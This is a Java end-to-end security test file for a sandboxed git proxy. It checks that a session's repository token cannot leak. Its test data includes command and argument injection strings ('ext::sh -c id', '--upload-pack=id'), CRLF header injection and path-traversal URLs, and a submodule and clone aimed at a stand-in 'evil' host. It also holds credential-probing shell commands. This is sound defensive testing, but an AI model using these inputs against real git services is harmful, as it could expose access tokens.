package io.dormouse.local.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.dormouse.json.Json;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The token of a session's repository. */
interface GitAttacks {
    String GIT = "GIT_TERMINAL_PROMPT=0 git -c user.name=a -c user.email=a@b.c ";

    @Test
    default void s18_a_push_works_for_its_repository_and_no_token_is_in_the_room(Target target) throws Exception {
        Room room = target.main();
        String seen = room.bash("cd /workspace/repo && cat a.txt && echo more > b.txt && git add b.txt && " + GIT
                        + "commit -qm pushed && GIT_TRACE_CURL=1 GIT_TRACE_REDACT=0 GIT_CURL_VERBOSE=1 GIT_TRACE=1 "
                        + GIT
                        + "push -q origin HEAD 2>&1; echo pushed $?; cat .git/config; git config -l --show-origin;"
                        + " git remote -v; printf 'protocol=https\\nhost=" + target.git.authority()
                        + "\\n\\n' | GIT_TERMINAL_PROMPT=0 git credential fill 2>&1; ls -a ~; env | grep -i git")
                .text();
        assertThat(seen).startsWith("first\n").contains("pushed 0").doesNotContain("CANARY-");
        assertThat(target.gitServer.last("me/repo.git")).startsWith("pushed");
        assertThat(target.git.heard("/me/repo.git")).isNotEmpty();
        String host = "https://" + target.git.authority();
        for (String other : List.of("/me/other.git", "/them/repo.git")) {
            assertThat(room.bash(GIT + "ls-remote " + host + other + " 2>&1").failed())
                    .doesNotContain("refs/heads");
            assertThat(room.bash("cd /workspace/repo && " + GIT + "push " + host + other + " HEAD 2>&1")
                            .failed())
                    .contains("403");
            assertThat(target.gitServer.last(other.substring(1))).isEqualTo("first");
        }
        onlyItsRepository(target);
    }

    private static void onlyItsRepository(Target target) {
        for (Upstream.Heard heard : target.git.heard())
            if (!heard.target().matches("/me/repo(\\.git)?/[a-z/-]+(\\?.*)?"))
                assertThat(heard.header("authorization")).as(heard.target()).isEmpty();
    }

    @Test
    default void s19_no_url_makes_git_or_the_proxy_offer_the_token_elsewhere(Target target) {
        Room room = target.main();
        String host = target.git.authority();
        String evil = target.evil.authority();
        for (String url : List.of(
                "https://" + host + "%0a" + evil + "/me/repo.git",
                "https://" + host + "%0d%0aHost:" + evil + "/me/repo.git",
                "https://me:pass@" + host + "/me/repo.git",
                "https://" + host + "/me/repo.git?x=" + evil,
                "https://" + host + "/me/../them/repo.git",
                "https://" + host + "/me/%2e%2e/them/repo.git",
                "http://" + host + "/me/repo.git",
                "ext::sh -c id",
                "file:///etc",
                "/etc",
                "ssh://git@" + host + "/me/repo.git",
                "git@" + host + ":me/repo.git",
                "--upload-pack=id",
                "https://" + host + "/--upload-pack=id",
                "https://" + host + "/",
                "https://" + host + "\n" + evil + "/me/repo.git"))
            assertThat(add(target, room, url, null)).as(url).isEqualTo(400);
        for (String branch : List.of("--upload-pack=id", "-x", "a..b", "a b", "a\nb"))
            assertThat(add(target, room, "https://" + host + "/me/more.git", branch))
                    .as(branch)
                    .isEqualTo(400);

        for (String path : List.of(
                "/me/repo.git/../other.git/info/refs?service=git-upload-pack",
                "/me/repo.git/..%2fother.git/info/refs?service=git-upload-pack",
                "/me/repo.git/%2e%2e/other.git/info/refs?service=git-upload-pack",
                "/me/repo.git//../other.git/info/refs?service=git-upload-pack",
                "/me//repo.git/info/refs?service=git-upload-pack",
                "/me/repo.gitx/info/refs?service=git-upload-pack",
                "/me/repo/../../them/repo.git/info/refs?service=git-upload-pack",
                "/me/REPO.git/info/refs?service=git-upload-pack"))
            assertThat(room.curl("--path-as-is 'https://" + host + path + "'"))
                    .as(path)
                    .isNotEqualTo("200");
        String submodule =
                "cd /tmp && rm -rf sub && git init -q sub && cd sub && printf '[submodule \"x\"]\\n path = x\\n"
                        + " url = https://" + evil
                        + "/me/repo.git\\n' > .gitmodules && git update-index --add --cacheinfo"
                        + " 160000,4b825dc642cb6eb9a060e54bf8d69288fbee4904,x && " + GIT
                        + "submodule update --init 2>&1 | tail -3; echo $?";
        room.bash(submodule);
        room.bash(GIT + "clone -q https://" + evil + "/me/repo.git /tmp/evil 2>&1");
        room.bash(GIT + "ls-remote 'https://" + host + "%0d%0ahost=" + evil + "/me/repo.git' 2>&1")
                .failed();
        assertThat(target.evil.heard("/me/repo.git")).isNotEmpty().allMatch(heard -> heard.header("authorization")
                .isEmpty());
        onlyItsRepository(target);
    }

    private static int add(Target target, Room room, String url, String branch) {
        ObjectNode resource = Json.object()
                .put("type", "github_repository")
                .put("url", url)
                .put("authorization_token", "not-a-canary-but-a-token");
        if (branch != null) resource.putObject("checkout").put("type", "branch").put("name", branch);
        return target.client
                .post("/v1/sessions/" + room.id() + "/resources", Json.text(resource))
                .status();
    }
}
